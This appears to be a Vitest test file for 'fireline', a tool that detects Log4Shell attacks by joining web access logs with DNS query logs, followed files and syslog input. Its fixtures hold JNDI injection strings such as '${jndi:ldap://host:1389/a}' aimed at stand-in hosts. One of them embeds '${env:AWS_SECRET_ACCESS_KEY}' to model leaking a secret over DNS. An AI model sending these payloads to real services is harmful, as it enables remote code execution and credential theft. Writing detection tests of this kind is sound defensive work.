import type { ChildProcess } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { afterAll, expect, test } from 'vitest'
import type { AttackFinding } from '../../src/core/index.ts'
import { type Ended, fireline } from '../kit/fireline.ts'

const folder = mkdtempSync(join(tmpdir(), 'fireline-live-'))
afterAll(() => rmSync(folder, { recursive: true }))

const attack = (host: string, at: string): string =>
  `203.0.113.83 - - [10/Dec/2021:${at} +0000] "GET / HTTP/1.1" 200 612 "-" "\${jndi:ldap://${host}:1389/a}"\n`
const query = (name: string, at: string): string =>
  `10-Dec-2021 ${at}.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (${name}): query: ${name} IN A +E(0)K (10.0.0.53)\n`

/** What was told of each host: its outcomes, in the order in which they were told. */
function told(stdout: string): Readonly<Record<string, readonly string[]>> {
  const outcomes: Record<string, string[]> = {}
  for (const line of stdout.split('\n')) {
    if (!line.includes('"fireline.finding/1"')) continue
    const { lookup, outcome } = JSON.parse(line) as AttackFinding
    outcomes[lookup.host ?? ''] = [...(outcomes[lookup.host ?? ''] ?? []), outcome]
  }
  return outcomes
}

/** A hunt that has no end of its own: what it said so far, while something is done beside it; Ctrl-C ends it. */
async function live(
  args: readonly string[],
  during: (said: () => { readonly out: string; readonly err: string }) => Promise<void>,
): Promise<Ended> {
  let out = ''
  let err = ''
  let meanwhile: Promise<void> = Promise.resolve()
  const ended = await fireline(['hunt', ...args], {
    cwd: folder,
    onStart: (child: ChildProcess) => {
      child.stdout?.on('data', (bytes: Buffer) => (out += bytes.toString()))
      child.stderr?.on('data', (bytes: Buffer) => (err += bytes.toString()))
      meanwhile = during(() => ({ out, err })).finally(() => child.kill('SIGINT'))
    },
  })
  await meanwhile
  return ended
}

async function until(holds: () => boolean): Promise<void> {
  for (let tries = 0; tries < 600 && !holds(); tries++) await wait(50)
  expect(holds()).toBe(true)
}

test('logs that are followed are joined as they grow, whichever grows first, and over a rotation', {
  timeout: 60_000,
}, async () => {
  const access = join(folder, 'access.log')
  const named = join(folder, 'named.log')
  writeFileSync(access, '')
  writeFileSync(named, query('www.example', '12:00:00').repeat(10))
  const { stdout, code } = await live(['--follow', 'access.log', 'named.log', '--format', 'jsonl'], async (said) => {
    const outcomes = (host: string): readonly string[] => told(said().out)[host] ?? []
    appendFileSync(access, attack('x.after.example', '12:00:01'))
    await until(() => outcomes('x.after.example').length === 1)
    appendFileSync(named, query('x.after.example', '12:00:02'))
    await until(() => outcomes('x.after.example').length === 2)

    appendFileSync(named, query('x.before.example', '12:01:00'))
    await wait(1_000)
    renameSync(named, `${named}.1`)
    writeFileSync(named, query('www.example', '12:01:01'))
    await wait(1_000)
    appendFileSync(access, attack('x.before.example', '12:01:02') + attack('x.quiet.example', '12:01:02'))
    await until(() => outcomes('x.before.example').length === 1)
  })

  expect(code).toBe(1)
  expect(told(stdout)).toEqual({
    'x.after.example': ['attempt', 'likely'],
    'x.before.example': ['likely'],
    'x.quiet.example': ['attempt'],
  })
  const summary = JSON.parse(stdout.trimEnd().split('\n').at(-1) ?? '') as { stats: unknown; campaigns: unknown }
  expect(summary).toMatchObject({ stats: { attacks: 3, likely: 2, callbackSeen: 0 } })
  expect(summary.campaigns).toMatchObject([
    { host: 'x.after.example', attacks: 1, outcome: 'likely', likely: 1 },
    { host: 'x.before.example', attacks: 1, outcome: 'likely', likely: 1 },
    { host: 'x.quiet.example', attacks: 1, outcome: 'attempt', likely: 0 },
  ])
})

test('to a person it is said again what came of an attack, where it was seen and what to do', {
  timeout: 60_000,
}, async () => {
  writeFileSync(join(folder, 'one.log'), attack('${env:AWS_SECRET_ACCESS_KEY}.leak.example', '12:00:01'))
  writeFileSync(join(folder, 'two.log'), query('www.example', '12:00:00').repeat(10))
  const { stdout } = await live(['--follow', 'one.log', 'two.log'], async (said) => {
    await until(() => said().out.includes('ATTACK one.log:1'))
    appendFileSync(join(folder, 'two.log'), query('key.leak.example', '12:00:02'))
    await until(() => said().out.includes('CALLBACK SEEN'))
  })

  expect(stdout).toContain('CALLBACK SEEN one.log:1, told above, critical')
  expect(stdout).toMatch(/seen +10\.0\.0\.5 asked for key\.leak\.example, 1 time.*\(two\.log:11\)/s)
  expect(stdout).toMatch(/Rotate now[^\n]*\n +1 × env:AWS_SECRET_ACCESS_KEY/)
  expect(stdout).not.toContain('Rotate, wherever')
  expect(stdout).toContain('a callback was seen of 1\n')
})

test.each([
  ['the attack', attack('x.evil.example', '12:00:01') + query('x.evil.example', '12:00:02')],
  ['what came of it', query('x.evil.example', '12:00:02') + attack('x.evil.example', '12:00:01')],
])('a pipe is joined, and each attack of it is told once, if %s comes first', async (_first, input) => {
  for (const format of ['json', 'jsonl']) {
    const { stdout, code } = await fireline(['hunt', '-', '--format', format], { cwd: folder, input })
    const findings: readonly AttackFinding[] =
      format === 'json'
        ? (JSON.parse(stdout) as { findings: readonly AttackFinding[] }).findings
        : stdout.split('\n').flatMap((line) => (line.includes('finding/1') ? [JSON.parse(line) as AttackFinding] : []))
    expect(findings.map(({ outcome }) => outcome)).toEqual(['likely'])
    expect(code).toBe(1)
  }
})

test('--window 0 looks for nothing in a pipe', async () => {
  const input = attack('x.evil.example', '12:00:01') + query('x.evil.example', '12:00:02')
  const { stdout } = await fireline(['hunt', '-', '--format', 'jsonl', '--window', '0'], { cwd: folder, input })

  expect(told(stdout)).toEqual({ 'x.evil.example': ['attempt'] })
})

test('messages of syslog are joined, whoever sends them', { timeout: 60_000 }, async () => {
  const socket = createSocket('udp4')
  const { stdout } = await live(['--syslog', 'udp:0', '--format', 'jsonl'], async (said) => {
    await until(() => said().err.includes('listening'))
    const port = Number(/udp:127\.0\.0\.1:(\d+)/.exec(said().err)?.[1])
    const send = (message: string): void => socket.send(`<134>${message.trimEnd()}`, port, '127.0.0.1')
    send(
      `Dec 10 12:00:00 ns named[1]: client @0x7f2a40 10.0.0.5#53211 (x.before.example): query: x.before.example IN A + (10.0.0.53)`,
    )
    await wait(500)
    send(`Dec 10 12:00:01 web app: \${jndi:ldap://x.before.example:1389/a}`)
    send(`Dec 10 12:00:01 web app: \${jndi:ldap://x.after.example:1389/a}`)
    await until(() => Object.keys(told(said().out)).length === 2)
    send(
      `Dec 10 12:00:02 ns named[1]: client @0x7f2a40 10.0.0.5#53211 (x.after.example): query: x.after.example IN A + (10.0.0.53)`,
    )
    await until(() => told(said().out)['x.after.example']?.length === 2)
  })
  socket.close()

  expect(told(stdout)).toEqual({ 'x.before.example': ['likely'], 'x.after.example': ['attempt', 'likely'] })
})
